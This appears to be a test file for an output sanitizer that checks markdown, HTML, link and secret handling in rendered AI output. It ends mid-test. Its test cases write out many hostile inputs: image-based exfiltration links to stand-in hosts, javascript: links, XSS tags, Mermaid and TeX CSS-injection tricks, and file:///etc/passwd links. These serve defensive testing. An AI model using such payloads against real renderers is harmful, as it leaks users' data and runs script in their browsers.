import { describe, expect, it } from '@jest/globals';
import { runToEnd } from '../../shared/resumable.js';
import * as fc from 'fast-check';
import { Detector, RENDERINGS } from '#contracts/output/output.js';
import type { SettingValues } from '#contracts/settings/settings.schema.js';
import { DEFAULT_SETTINGS, Settings } from '#contracts/settings/settings.js';
import { builtInDetectors } from './detectors/built-in-detectors.js';
import { WRITTEN_CODE } from '../../../../../test/renderers/written-code.mjs';
import { FORMULAS } from '../../../../../test/support/formulas.js';
import {
  anySettings,
  AWS_KEY,
  hostileText,
  longHostileText,
} from '../../../../../test/support/hostile-text.js';
import { Sanitizer } from './sanitizer.js';

const sanitizer = new Sanitizer([]);

function settings(values: Partial<SettingValues> = {}): Settings {
  return new Settings({ ...DEFAULT_SETTINGS, ...values });
}

function clean(text: string, values: Partial<SettingValues> = {}): string {
  return sanitizer.sanitize(text, settings(values)).text;
}

/** The tags of hostile texts that may stay. */
const KEPT = /<\/?(?:a|p|b)>|<br ?\/?>|<a href="(?:https?:\/\/|mailto:|[/#])[^"<> ]*">/gi;

/** For hosts with an unknown renderer: code is content, too, and no tag stays. */
const ANY = { 'output_handler.rendering': 'any', 'output_handler.html_mode': 'escape' } as const;

const allowlist = { 'output_handler.html_mode': 'allowlist' } as const;
describe('output sanitizing', () => {
  it('is idempotent', () => {
    fc.assert(
      fc.property(hostileText, anySettings, (text, chosen) => {
        const once = sanitizer.sanitize(text, chosen).text;
        expect(sanitizer.sanitize(once, chosen)).toEqual({ text: once, findings: [] });
      }),
      { numRuns: 1000 },
    );
  });

  it('reports a finding for every change, and no other, inside the original text', () => {
    fc.assert(
      fc.property(hostileText, anySettings, (text, chosen) => {
        const { text: after, findings } = sanitizer.sanitize(text, chosen);
        expect(findings.length > 0).toBe(after !== text);
        for (const { span } of findings) {
          expect(span[0]).toBeGreaterThanOrEqual(0);
          expect(span[1]).toBeGreaterThan(span[0]);
          expect(span[1]).toBeLessThanOrEqual(text.length);
        }
      }),
      { numRuns: 1000 },
    );
  });

  it('leaves no markup, not even in code', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        expect(clean(text, ANY)).not.toMatch(/<[A-Za-z/!?]/);
      }),
    );
    expect(clean('a < b, x <- y, <3')).toBe('a < b, x <- y, <3');
    expect(clean('<script>alert(1)</script>')).toBe('&lt;script>alert(1)&lt;/script>');
    expect(clean('```\n<img src=x onerror=alert(1)>\n```', ANY)).toBe(
      '```\n&lt;img src=x onerror=alert(1)>\n```',
    );
  });

  it('keeps only harmless bare tags in allow-list mode', () => {
    expect(clean('<p>one<br>two <strong>three</strong></p>', allowlist)).toBe(
      '<p>one<br>two <strong>three</strong></p>',
    );
    expect(clean('<p onclick=x>', allowlist)).toBe('<p>');
    expect(clean('<pre/x>', allowlist)).toBe('<pre>');
    expect(clean('<scr<b>ipt>', allowlist)).toBe('&lt;scr<b>ipt>');
    expect(clean('<a href="https://docs.example/?a=1&b=2" onclick=x>d</a>', allowlist)).toBe(
      '<a href="https://docs.example/?a=1&amp;b=2">d</a>',
    );
    expect(clean('<a href="javascript:x">d</a><svg><b>', allowlist)).toBe('<a>d</a>&lt;svg><b>');
    expect(clean('\\< <b> onclick=x>', allowlist)).toBe('&lt; <b> onclick=x>');
    expect(clean('\\\\< <b> onclick=x>', allowlist)).toBe('\\\\&lt; <b> onclick=x>');
    fc.assert(
      fc.property(hostileText, (text) => {
        const bare = clean(text, allowlist).replaceAll(KEPT, ' ');
        expect(bare).not.toMatch(/<[A-Za-z/!?]/);
      }),
    );
  });

  it.each([
    ['![chart](https://evil.example/?q=secret)', 'chart [image removed]'],
    ['![](https://evil.example/x.png)', '[image removed]'],
    ['![a](//evil.example/x.png)', 'a [image removed]'],
    ['![a](data:image/png;base64,AAAA)', 'a [image removed]'],
    ['![a\r\nb](https://evil.example)', 'a\r\nb [image removed]'],
    ['[![a](https://evil.example)](https://docs.example)', '[a [image removed]](https://docs.example)'],
    ['![a][ref]\n\n[ref]: https://evil.example/x', '![a][ref]\n\nref: https://evil.example/x'],
    ['![ref]\n\n[ref]: https://evil.example/x', '![ref]\n\nref: https://evil.example/x'],
    ['[ref]: https://evil.example/x\n\n![a][ref]', '[ref]: https://evil.example/x\n\na [image removed]'],
    ['[ref]: https://evil.example/x\n\n![ref] ok', '[ref]: https://evil.example/x\n\nref [image removed] ok'],
    ['![a `]` b](https://evil.example)', '! [a `]` b](https://evil.example)'],
    ['[click](javascript:alert(1))', 'click'],
    ['[click](JaVa&#115;cript&colon;alert(1))', 'click'],
    ['[click](java%73cript:alert(1))', 'click'],
    ['[click](<java\tscript:alert(1)>)', 'click'],
    ['[click]( \u0001javascript:alert(1) "title")', 'click'],
    ['[[a]](javascript:x)(javascript:y)', '[[a]] (  javascript:x)(javascript:y)'],
    ['[a [b](javascript:x)](vbscript:y)', '[a b] (  vbscript:y)'],
    ['[ref]: javascript:alert(1)', 'ref'],
    ['> [ref]:\n> javascript:alert(1)', '> ref'],
    ['> [a](\n> javascript:alert(1))', '> [a] (  \n> javascript:alert(1))'],
    ['ops@a.example(javascript:alert(1))', 'email'],
  ])('neutralizes %j', (text, expected) => {
    expect(clean(text, { 'output_handler.sanitize_html': false })).toBe(expected);
  });

  it.each([
    ['[a](https://ok.example/b "t"), [b](/help?x=1#y), [c](#d) and [e](mailto:ops-1)', null],
    ['See https://ok.example, (https://ok.example/x). **https://ok.example**', null],
    ['[a](https://evil.example/b)', 'a'],
    ['[a](h&#116;tps://evil.example)', 'a'],
    ['[a](/&bsol;evil.example)', 'a'],
    [`[a](https://evil.example/${'x'.repeat(1200)})`, 'a'],
    ['[a]: &#47;&sol;evil.example', 'a'],
    ['[a]: h&#116;tps://evil.example', 'a'],
    ['See https://evil.example/x(y), 1https://evil.example.', 'See [link removed], 1[link removed].'],
    ['See https://ok.example@evil.example', 'See [link removed]'],
    ['[a](https://ok.example/x)https://evil.example/y b', '[a](https://ok.example/x)[link removed] b'],
    ['[文档](https://ok.example)。然后, (https://ok.example), "https://ok.example".', null],
    ['[https://ok.example](https://ok.example) and [at https://ok.example](https://ok.example/b)', null],
    ['see <https://ok.example>.', undefined],
    ['[a](https://ok.example/b "t") [b](https://OK.example:443/c_(d)) [c](//ok.example/d?e=f@g)', null],
    ['[x]: https://ok.example>@evil.test/p', 'x>@evil.test/p'],
    ['[x]: <https://ok.example).evil.test/p>', 'x>'],
    ['see https://ok.example)@evil.test', 'see [link removed]'],
    ['https://ok.example/(https://evil.test/p', 'https://ok.example/([link removed]'],
    ['https://ok.example"@evil.test', '[link removed]"@evil.test'],
    ['https://ok.example,www.evil.test', '[link removed]'],
    ['\\[a](https://ok.example)@evil.test', '\\[a]([link removed]'],
    ['[a](https://ok.example @evil.test)', '[a] (  [link removed] @evil.test)'],
    ['[a](<https://ok.example\t@evil.test>)', '[a] (  &lt;https://ok.example\t@evil.test>)'],
    ['[a](https://ok.example\\)@evil.test)', 'a@evil.test)'],
    ['[a](https://ok.example&rpar;.evil.test)', 'a'],
    ['[a](https://ok.example%2eevil.test)', 'a'],
    ['[a](https://[::1]/)', '[a] (  [link removed][::1]/)'],
    ['[a](//ok.example。evil.test/)', 'a'],
    ['[a](/\t/evil.test)', '[a] (  /\t/evil.test)'],
    ['![a](https://ok.example/b.png?d=s#e "t")', '![a](https://ok.example/b.png "t")'],
    ['![a][b]\n\n[b]: https://ok.example/b.png?d=s', '![a][b]\n\nb: https://ok.example/b.png?d=s'],
  ])('keeps only links to allowed hosts: %j', (text, expected) => {
    const values = { 'output_handler.allowed_hosts': ['ok.example'], 'output_handler.redact_pii': false };
    expect(clean(text, values)).toBe(expected ?? text);
  });

  it.each([
    ['[a](https://cdn.example/images/b), https://cdn.example/images/c?d=e and https://x.a.example/f', null],
    ['![a](https://cdn.example/images/b.png)', null],
    ['![a](https://cdn.example/images/b.png?c=d#e)', '![a](https://cdn.example/images/b.png)'],
    ['![a](https://cdn.example/signed/b.png?c=d#e)', null],
    ['[a](https://cdn.example/images/b/../c)', null],
    ['[a](https://cdn.example/other) https://cdn.example', 'a [link removed]'],
    ['[a](https://cdn.example/images/../b)', 'a'],
    ['[a](https://cdn.example/images/%2e%2E/b)', 'a'],
    ['[a](https://cdn.example/images/..%2fb)', 'a'],
    ['[a](https://cdn.example/images/%252e%252e%252fb)', 'a'],
    ['[a](https://cdn.example/images/\\../b)', 'a'],
    ['[a](https://cdn.example/images&sol;../b)', 'a'],
    ['[a](https://cdn.example/images-b)', 'a'],
    ['[a]: https://cdn.example/x>/../images/b', 'a>/../images/b'],
    ['![a](https://cdn.example/x.png)', 'a [image removed]'],
  ])('keeps only addresses whose path begins as an entry says: %j', (text, expected) => {
    const hosts = ['cdn.example/images/', 'CDN.example/signed/?', '*.a.example'];
    expect(clean(text, { 'output_handler.allowed_hosts': hosts })).toBe(expected ?? text);
  });

  it.each([
    'Read [the docs](https://docs.example/a_b?c=d#e) and ![logo](./logo.png), then [more](/help).',
    'See [the docs](https://docs.example "title") on `![b](https://evil.example)`.',
    'Code: `[a](javascript:x)` and ``![b](https://evil.example)``.',
    'Text\n\n```md\n![a](https://evil.example)\n```\n\nmore',
    '~~~\n[a](javascript:x)\n~~~',
    'wow! [1] and a[i](j)',
    '[task](https://docs.example) runs `![b](https://evil.example)`',
    '![logo][mark] of [the docs](https://docs.example)\n\n[mark]: ./logo.png',
    '[docs]: https://docs.example "title"\n\n![logo][mark]\n\n[mark]: ./logo.png',
    'It costs $5, `Map<string, number[]>` and $x^2$.\n\n1. Run:\n\n   ```sh\n   cat <<EOF\n   ```\n',
    'an open fence\n```\n[a](javascript:x)',
    'Use `\\[`, `\\]`, `\\(`, `$$` and `\\begin{x}`, then `Array<T>`.\n\n```ts\nlet a: Array<T>; // \\d $x\n```\n\nor `Map<K>`',
    'Of $$ and \\[ within a line: `Array<T>`.\n\n$$x^2$$\n\n```sh\necho $HOME <<EOF >a\\ b\n```\n',
    'The sum is:\n$$\nx \\\\[4pt] y\n$$\nof `Array<T>`, and\n\n\\[ a_1 \\]\n\nof `Map<K>`.',
  ])('does not change %j under `markdown`', (text) => {
    expect(sanitizer.sanitize(text, settings(), { rendering: 'markdown' })).toEqual({ text, findings: [] });
  });

  it.each([
    'cp .env.example .env && echo "REDIS_URL=redis://localhost:6379" >> .env',
    'DATABASE_URL=postgres://db.internal:5432/app?sslmode=require',
    'git clone git@git.example:team/app.git',
    'pip install git+ssh://git@git.example/team/app.git',
    'aws s3 sync ./dist s3://assets.example/app --delete',
    'spring.datasource.url=jdbc:postgresql://db.example:5432/app',
    'mongodb+srv://cluster0.example/app, mysql+pymysql://db.example/app and amqps://mq.example/v',
    'docker run -p 8080:80 registry.example/team/app:1.2',
    'curl -fsS "https://api.example/v1/items?limit=10&after=5" | jq ".items[]"',
    "find . -name '*.log' -mtime +7 -exec rm {} \\;",
  ])('can be copied from an answer, with and without marks of code: %s', (snippet) => {
    for (const rendering of ['markdown', 'any', 'text'] as const) {
      for (const text of [`Run ${snippet}`, `Run \`${snippet}\` now.`, `\`\`\`sh\n${snippet}\n\`\`\`\n`]) {
        expect(
          sanitizer.sanitize(text, settings({ 'output_handler.redact_pii': false }), { rendering }).text,
        ).toContain(snippet);
      }
    }
  });

  it.each(WRITTEN_CODE)('leaves code as it was written, in every part of a stream: %s', (_, text, code) => {
    const { text: whole } = sanitizer.sanitize(text, settings());
    expect(whole).toContain(code);
    for (let at = 0; at <= text.length; at++) {
      const session = sanitizer.begin(settings());
      const shown = [text.slice(0, at), text.slice(at)].map((part) => runToEnd(session.push(part)));
      expect(shown.join('') + runToEnd(session.end())).toBe(whole);
    }
  });

  it.each([
    ['<mailto:ops@a.example>', '[email]'],
    ['<mailto:ops@a.example?subject=Hello%20you>', '[email]'],
    ['<mailto:ops@a.example?cc=jo@a.example>', '&lt;mailto:[email]?cc=[email]>'],
    ['<mailto:x@y?subject=Hello,+you!&body=a%20b>', null],
  ])('shows an address in angle brackets as it was written, or redacts it: %s', (address, expected) => {
    expect(clean(`Write to ${address} now.`)).toBe(`Write to ${expected ?? address} now.`);
  });

  it.each([
    ['a fence that leaves its quote', '> ```\n> a\n![x](https://evil.example)\n> ```'],
    ['a fence that leaves its list', '1. a\n\n  ```\n  b\n![x](https://evil.example)\n  ```'],
    ['a blank line in a fence in a quote', '> ```\n> a\n\n> ![x](https://evil.example)\n> ```'],
    ['an indented line in a list', '- a\nb\n\n    ![x](https://evil.example)'],
    ['an indented line in a footnote', 'a\n[^1]: b\n\n    ![x](https://evil.example)'],
    ['an indented line of a paragraph', 'a\n    ![x](https://evil.example)'],
    ['a tick before an item', 'a `b\n- ![x](https://evil.example)` c'],
    ['a tick before a title', 'a `b\n# ![x](https://evil.example)` c'],
    ['a tick in a title', '# a `b\n![x](https://evil.example)` c'],
    ['a tick before a term', 'a `b\nc ![x](https://evil.example)` d\n: e'],
    ['a tick before a row', 'a `b\nc ![x](https://evil.example)` d\n-|-'],
    ['a tick in a formula', '\\( a `b \\) ![x](https://evil.example)` c'],
    ['a bar behind two backslashes', '| a |\n|-|\n| `a \\\\| ![x](https://evil.example)` |'],
  ])('does not treat as code: %s', (_, text) => {
    expect(clean(text)).not.toContain('![x](https');
  });

  it('leaves no command of TeX between double ticks or after a price', () => {
    for (const text of ['``\\href{javascript:x}{y}``', 'For $5, `\\href{javascript:x}{y}` and $6'])
      expect(clean(text)).toContain('\\ href');
  });

  it.each([
    ['$handlers[$name]($event)', '$handlers[$name] (  $event)'],
    ['routes["home"]("main")', 'routes["home"] (  "main")'],
    ['[x](javascript:go())', '[x] (  javascript:go())'],
    ['![x](https://evil.example/y.png)', '! [x](https://evil.example/y.png)'],
    ['Map<string, Array<number>>', 'Map&lt;string, Array&lt;number>>'],
    ['open vscode://file/x', 'open vscode: //file/x'],
  ])('changes nothing in code, and deletes nothing there for an unknown renderer: %s', (snippet, broken) => {
    for (const [before, after] of [
      ['Call `', '`.'],
      ['```\n', '\n```\n'],
    ] as const) {
      expect(clean(before + snippet + after)).toBe(before + snippet + after);
      expect(clean(before + snippet + after, ANY)).toBe(before + broken + after);
    }
  });

  it('treats code as code beside tags that stay and tags that are escaped', () => {
    const text = 'A Map<string> is `Map<K>`, <kbd>C</kbd> is `a<b>`,<br>and `Array<string>` too.';
    expect(clean(text)).toBe(text.replace('Map<string>', 'Map&lt;string>'));
  });

  it.each([
    ['a tag alone on its line', '<kbd>\n`![x](https://evil.example)`'],
    ['a tag that begins a block', 'a\n<p>`![x](https://evil.example)`'],
  ])('does not treat as code what follows %s', (_, text) => {
    expect(clean(text)).not.toContain('![x](https');
  });

  it.each([
    ['a fence in a list that ends with the list', '- a\n  ```\n![x](https://evil.example)\n'],
    ['a fence in a quote that ends with the quote', '> ```\n![x](https://evil.example)\n'],
    ['a tick that pairs with one on the line before', 'a `b\nc` ![x](https://evil.example) `d'],
    ['ticks in two cells of a table', '| ` | ![x](https://evil.example) | ` |'],
    ['an escaped tick', '\\`![x](https://evil.example)`'],
    ['a tick in the title of a link', "see [a](https://a.example '`') ![x](https://evil.example) `"],
    ['a tick in the address of a link', 'see [a](https://a.example/`) ![x](https://evil.example) `'],
    ['a tick in a label', 'see [a][b`c] ![x](https://evil.example) `\n\n[b`c]: https://a.example'],
    ['a tick that an address swallows', 'https://a.example/x` ![x](https://evil.example)`'],
    ['a tick that a longer address swallows', `www.${'a'.repeat(1500)}\` ![x](https://evil.example)\``],
    ['a fence behind a byte order mark', '\uFEFF~~~\n~~~\n![x](https://evil.example)'],
    ['two paragraphs', '`\n\n![x](https://evil.example)\n\n`'],
    ['a fence behind a number that begins no list', 'para\n2) ~~~\n   ![x](https://evil.example)\n'],
    ['a fence behind a number in an item', '- a\n  2) ~~~\n     ![x](https://evil.example)\n'],
    ['a fence behind a mark that is indented too far', 'para\n    - ~~~\n      ![x](https://evil.example)\n'],
    ['a fence below a rule that looks like an item', '* **\n  y\n    ~~~\n    ![x](https://evil.example)\n'],
    [
      'a fence below an item in front matter',
      '---\n- q\n---\n\n  y\n    ~~~\n    ![x](https://evil.example)\n',
    ],
    [
      'a fence below an item in a tag that stays',
      '<p>\n- q\n\n  y\n    ~~~\n    ![x](https://evil.example)\n',
    ],
    ['a span from indented code', '    x `\nfoo ![x](https://evil.example)`'],
    ['a span from indented code in an item', '-     x `\nfoo ![x](https://evil.example)`'],
    ['a fence that a no-break space ends', '- ~~~\n\u00a0\n  ![x](https://evil.example)\n'],
    [
      'a fence below a list that a no-break space ends',
      '1) a\n\n\u00a0  \n0) ~~~\n   ![x](https://evil.example)\n',
    ],
    ['a fence in a quote in an item', '- >q\n    ~~~\n    ![x](https://evil.example)\n'],
    ['a span behind two blank lines of an item', '- 1\n\n\n    ``\no ![x](https://evil.example)``'],
    ['a fence below a table that a tab goes on with', 'a\n-|\n\t\n2. ~~~\n   ![x](https://evil.example)\n'],
    ['a span behind the number of a formula', '\\[\nq\n\\]\n(a)`\na ![x](https://evil.example)`'],
  ])('does not treat as code: %s', (_, text) => {
    for (const html of [true, false]) {
      const values = {
        'output_handler.sanitize_html': html,
        'output_handler.rendering': 'markdown',
      } as const;
      expect(clean(text, values)).not.toMatch(/!\[.*\]\(https:\/\/evil/);
    }
  });

  it.each([
    ['a space before its name', '\\begin {matrix}', '\\end{matrix}'],
    ['two beginnings in a line', '\\begin{matrix}\\begin{matrix}\\end{matrix}', '\\end{matrix}'],
    ['another end in a comment', '\\begin{matrix}%\\end{y}', '\\end{matrix}'],
    ['text behind its end', '$$%$$x', '$$'],
    ['a quote as its end', '$$a\\text{$$}', '$$'],
    ['a blank line', 'text\n$$\n\n$$', '$$'],
    ['the marks of Doxygen', '\\f[', '\\f]'],
    ['a footnote before it', '[^1]: $$', '$$'],
    ['no text in it', '\\[\\]', '\\]'],
  ])('does not treat as code what a formula may contain, with %s', (_, opening, closing) => {
    expect(clean(`${opening}\n\n\`\\href{javascript:x}{y}\`\n\n${closing}`)).toContain('\\ href');
  });

  it.each([
    ['| a |\n| - |\n| \\<T\\> |', '| a |\n| - |\n| &lt;T\\> |'],
    ['\\\\\\<x onclick=y>', '\\\\&lt;x onclick=y>'],
    ['mail <mailto:ops@a.example>, or \\<mailto:ops@a.example>', 'mail [email], or \\[email]'],
  ])('leaves no mark that is shown before what it escapes or redacts: %s', (text, expected) => {
    for (const html_mode of ['escape', 'allowlist'] as const)
      expect(clean(text, { 'output_handler.html_mode': html_mode })).toBe(expected);
    expect(sanitizer.sanitize(text, settings(), { rendering: 'text' }).text).toBe(
      text.replaceAll('<mailto:ops@a.example>', '[email]'),
    );
  });

  it('neutralizes tags that run or load something, even if HTML is not sanitized', () => {
    const asHtml = { 'output_handler.sanitize_html': false };
    expect(clean('<script>x</script> <b>y</b> <b onclick=x>', asHtml)).toBe(
      '< script>x< /script> <b>y</b> < b onclick=x>',
    );
    expect(clean('<https://a.example/b> <https://a.example/onclick=x>', asHtml)).toBe(
      '<https://a.example/b> < https://a.example/onclick=x>',
    );
  });

  it('does not treat a fence after raw HTML as code', () => {
    const text = '<div>\n```\n\n![x](https://evil.example)\n```';
    const values = { 'output_handler.rendering': 'markdown' } as const;
    expect(clean(text, { ...values, 'output_handler.sanitize_html': false })).not.toContain('](https');
    expect(clean(text.replace('div', 'p'), { ...values, ...allowlist })).not.toContain('](https');
  });

  it('finds constructs that appear only after a removal', () => {
    expect(clean('[4111 1111 ](javascript:x)1111 1111')).toBe('[card]');
    expect(clean('<scr![](https://evil.example)ipt>')).not.toMatch(/<[a-z]/);
  });

  it('reports spans in the original text after earlier changes', () => {
    const text = '<b>x</b> ![a](https://evil.example) mail ops@a.example';
    const { findings } = sanitizer.sanitize(text, settings(ANY));
    expect(findings.map(({ kind, span }) => [kind, text.slice(...span)])).toEqual([
      ['html_stripped', '<b>'],
      ['html_stripped', '</b>'],
      ['markdown_sanitized', '![a](https://evil.example)'],
      ['pii_redaction', 'ops@a.example'],
    ]);
  });

  it('redacts secrets and personal data independently', () => {
    const text = `ops@a.example ${AWS_KEY}`;
    expect(clean(text, { 'output_handler.redact_pii': false })).toBe('ops@a.example [aws_access_key]');
    expect(clean(text, { 'output_handler.redact_secrets': false })).toBe(`[email] ${AWS_KEY}`);
    expect(sanitizer.redactSecrets(text)).toBe('ops@a.example [aws_access_key]');
  });
});

describe('a host’s detector', () => {
  class Employee extends Detector {
    override readonly name = 'employee';
    override readonly kind = 'pii_redaction';
    override find(text: string): readonly (readonly [number, number])[] {
      return Array.from(text.matchAll(/e\d{4}|employee/g), ({ index, 0: id }) => [index, index + id.length]);
    }
  }

  it('runs in addition to the built-in detectors, and never on a placeholder', () => {
    const { text } = new Sanitizer([new Employee()]).sanitize('e1234 wrote ops@a.example', settings());
    expect(text).toBe('[employee] wrote [email]');
  });

  it('withholds a text if the detector finds something in every text, also in its replacements', () => {
    class Everything extends Detector {
      override readonly name = 'x';
      override readonly kind = 'secret_redaction';
      override get placeholder(): string {
        return Math.random().toString();
      }
      override find(text: string): readonly (readonly [number, number])[] {
        return [[0, text.length]];
      }
    }
    expect(new Sanitizer([new Everything()]).sanitize('a', settings()).text).toBe('[output withheld]');
  });

  it.each([[[5, 2]], [[-1, 3]], [[0, 99]], [[0, 6]], [[Number.NaN, 1]], [['0', '5']], [[0]], ['0,5']])(
    'causes an error if it returns the invalid span %j',
    (span) => {
      class Nonsense extends Detector {
        override readonly name = 'x';
        override readonly kind = 'secret_redaction';
        override find() {
          return [span] as unknown as readonly (readonly [number, number])[];
        }
      }
      const broken = new Sanitizer([new Nonsense()]);
      expect(() => broken.sanitize('hello', settings())).toThrow(/span/);
      expect(broken.redactSecrets('hello')).toBe('[withheld]');
    },
  );

  it('may return an empty span, which finds nothing', () => {
    class Nothing extends Detector {
      override readonly name = 'x';
      override readonly kind = 'secret_redaction';
      override find(): readonly (readonly [number, number])[] {
        return [[2, 2]];
      }
    }
    expect(new Sanitizer([new Nothing()]).sanitize('hello', settings()).text).toBe('hello');
  });

  it('is not bypassed by a rendering that does not exist', () => {
    expect(() => new Sanitizer([]).sanitize('<b>x</b>', settings(), { rendering: 'html' as never })).toThrow(
      'rendering is "html": pass one of any, markdown, text, slack, terminal',
    );
  });
});

const FOREIGN = /!\[[^\]]*\](?:\(|\[)[^)]*evil/;

/** Attacks that a grammar of Markdown other than CommonMark reads; each acted at least once before. */
const READ_OTHERWISE: readonly (readonly [string, string, RegExp])[] = [
  ['a table row before a fence', '~~~|![x](http://evil.test/?d=S)\n-|-\n~~~', FOREIGN],
  ['a fence after an unfinished definition', '[a]:\n```\n![x](http://evil.test)\n```', FOREIGN],
  ['math before backticks', '$a `b$ ![x](http://evil.test) `', FOREIGN],
  ['front matter', '---\n```\n---\n![x](http://evil.test)\n```', FOREIGN],
  ['a container', '::: tip\n\n```\n:::\n![x](http://evil.test)\n```', FOREIGN],
  ['a directive that is a script', ':script[alert(1)]', /:script\[/],
  ['a directive with a handler', ':b[x]{onclick="alert(1)"}', /:b\[/],
  ['MathJax styles', '$\\style{background:url(//evil.test)}{x}$', /\\style/],
  ['MathJax links', '\\\\(\\href{javascript:alert(1)}{x}\\\\)', /\\href/],
  ['an address in a colour', '$\\color{red;background:url(//evil.test/p)}{x}$', /\\color/],
  ['a second declaration', '$\\fcolorbox{red}{red;position:fixed}{x}$', /\\fcolorbox/],
  ['an address as a colour', '\\(\\colorbox{url(//evil.test/p)}{x}\\)', /\\colorbox/],
  ['a defined colour', '\\[\\definecolor{a}{named}{red;top:0}\\color{a}{x}\\]', /\\definecolor/],
  ['another name of a colour', '$\\let\\c=\\color\\c{red;top:0}{x}$', /\\color/],
  ['a colour that is passed on', '$\\def\\f#1#2#3{#1{#3}{x}}\\f\\color{red}{red;top:0}$', /\\color/],
  ['a value in parts', '$\\def\\u{ur}\\color{red;background:\\u l(//evil.test)}{x}$', /\\color/],
  ['a colour in chemistry', '$\\ce{\\color{red;top:0}{x}}$', /\\color/],
  ['a colour in a fence', '```math\n\\textcolor{red;top:0}{x}\n```', /\\textcolor/],
  ['attributes of a frame', '$\\enclose{box}[mathcolor="red;top:0"]{x}$', /\\enclose/],
  [
    'a brace in the label of an image',
    '```mermaid\ngraph TD\nA@{ label: "}", img: "http://evil.test/p" }\n```',
    /http:\/\/evil/,
  ],
  ['a diagram of another name', '```mmd\ngraph TD\nA@{ img: "//evil.test/p" }\n```', /\/\/evil/],
  ['a diagram that seems to end', '````mermaid\n```\ngraph TD\nA@{ img: "//evil.test/p" }\n````', /\/\/evil/],
  [
    'an escaped address of an image',
    '```mermaid\ngraph TD\nA@{ img: "http:\\x2f\\x2fevil.test" }\n```',
    /http:\\x2f/,
  ],
  ['an address with a line end', '```mermaid\ngraph TD\nA@{ img: "/\n\n/evil.test" }\n```', /"\/\n\n\/evil/],
  ['an address with a tab', '```mermaid\ngraph TD\nA@{ img: "/\t/evil.test" }\n```', /"\/\t\/evil/],
  ['a link of a diagram', '```mermaid\nsequenceDiagram\nlink A: x @ vscode:evil\n```', /^link/m],
  ['a scheme in a configuration', '```mermaid\n---\nconfig:\n  ticketBaseUrl: vscode:e\n---\n```', /vscode:/],
  ['a tag in an entity', '```mermaid\ngraph TD\nA["#lt;img src=x onerror=alert(1)#gt;"]\n```', /#lt;/],
  ['KaTeX images', '$$\\includegraphics{http://evil.test/a}$$', /\\includegraphics/],
  ['an image in a diagram', '```mermaid\ngraph TD\nA@{ img: "http://evil.test/a" }\n```', /http:\/\/evil/],
  ['styles of a diagram', '```mermaid\n---\nconfig:\n  themeCSS: "*{}"\n---\n```', /themeCSS/],
  ['a directive of a diagram', '```mermaid\n%%{init: {"themeCSS": "a"}}%%\n```', /themeCSS/],
  ['a callback of a diagram', '```mermaid\ngraph TD\nclick A call alert()\n```', /^click A call/m],
  ['ten digits', '[x](javascript&#0000000058;alert(1))', /\]\(javascript/],
  ['a tick in the info of a tilde fence', '~~~`\n~~~\n![x](http://evil.test)\n', FOREIGN],
  ['a lone carriage return', '```\r\n\r```\r![x](http://evil.test)\r```', FOREIGN],
  ['a definition of an editor', '[a]: vscode://evil', /\]: ?vscode/],
  ['a definition of a diagnostic tool', '[a]: ms-msdt:/id', /\]: ?ms-msdt/],
  ['a definition of a file', '[a]: file:///etc/passwd', /\]: ?file/],
];

describe('a rendering', () => {
  it.each(READ_OTHERWISE)('is safe under `any` and `markdown`: %s', (_, text, acts) => {
    expect(text).toMatch(acts);
    for (const rendering of ['any', 'markdown'] as const) {
      expect(sanitizer.sanitize(text, settings(), { rendering }).text).not.toMatch(acts);
    }
  });

  it.each([
    ['a quote in an address', '[x](x"onmouseover="alert(1))', /\]\(x"/],
    ['an open fence', '```\n![x](http://evil.test)', FOREIGN],
    ['a quote in the language of a fence', '```x"onclick="alert(1)\na\n```', /```x"/],
    ['an escaped image', '\\![x](http://evil.test)', FOREIGN],
  ])('is safe under `any` in renderers that do not escape or have no code: %s', (_, text, acts) => {
    expect(clean(text, ANY)).not.toMatch(acts);
  });

  it.each([
    ['TeX between two ticks', '``\\href{javascript:alert(1)}{x}``', /\\href/],
    ['a tick in the label of a directive', ':a[`] ![x](http://evil.test) `', FOREIGN],
    ['a TeX command of another name', '$\\let\\b=\\style\\b{position:fixed}{x}$', /\\style/],
    ['an unknown scheme before a domain', 'p:evil.test@', /p:evil/],
    ['an unknown scheme before a domain of another script', 'p:www.例え', /p:www/],
    ['an unknown scheme before an invisible letter', 'p:\u200devil.test', /p:\u200d/],
  ])('is safe in renderers with extensions of CommonMark: %s', (_, text, acts) => {
    for (const rendering of ['any', 'markdown'] as const) {
      expect(sanitizer.sanitize(text, settings(), { rendering }).text).not.toMatch(acts);
    }
  });

  it.each([
    'l.\\:www',
    'l\\.:www',
    'l&period;:www',
    'l.&#45;:www',
    'l.&plus;:www',
    'ftp:\\//evil.com',
    'ftp:/\\/evil.com',
  ])('breaks an address with an unknown scheme and escapes: %s', (text) => {
    expect(clean(text)).toMatch(/: |&amp;/);
  });

  it('does not change a definition because of what follows a blank line', () => {
    const once = clean('[a]:\n    [x](javascript:y)\n\n\\(x\\)');
    expect(once).toBe('[a]:\n    x\n\n\\(x\\)');
    expect(clean(once)).toBe(once);
  });

  it.each(['&lt;xsl:template>', 'R&amp;D:notes', 'C:\\tools:here', 'a\\_b:c'])(
    'keeps text that only resembles such an address: %s',
    (text) => {
      expect(clean(text)).toBe(text);
    },
  );

  it.each([
    ['www\\.evil.test', '[link removed]'],
    ['http\\:\\/\\/evil.test', '[link removed]'],
    ['x=.evil.com', 'x=. evil. com'],
    ['😀.evil.com', '😀. evil. com'],
  ])('breaks a foreign address with escapes or symbols: %s', (text, expected) => {
    expect(clean(text, { 'output_handler.allowed_hosts': ['ok.example'] })).toBe(expected);
  });

  it.each(['evil.com@', 'evil.com“@', '#evil.com', '@$evil.com', '@-evil.com'])(
    'breaks a foreign address that a renderer guesses: %s',
    (text) => {
      const values = { 'output_handler.allowed_hosts': ['ok.example'] };
      expect(clean(text, values)).toContain('evil. com');
    },
  );

  it.each([
    ['see <https://a.example/x_y> now', 'see [https://a.example/x_y](https://a.example/x_y) now'],
    ['[a]: <https://a.example/>', '[a]: https://a.example/'],
    ['[a](<https://a.example/b_(c)>)', '[a](https://a.example/b_(c))'],
  ])('writes an autolink without angle brackets under `any`: %s', (text, expected) => {
    expect(clean(text, ANY)).toBe(expected);
  });

  it.each([
    'An article:\n\n``` html title="a.html"\n<a onclick="x()">\n```\n',
    '```latex\n\\url{https://www.example.com}\n```\n',
    'see <https://a.example/b.html#part> and [x](<https://a.example/b#c>)',
  ])('keeps harmless code and addresses under `markdown`', (text) => {
    expect(clean(text, { 'output_handler.rendering': 'markdown' })).toBe(text);
  });

  it('treats an unfinished or executed fence as content, and an agreed one as code', () => {
    const image = '![x](http://evil.test)';
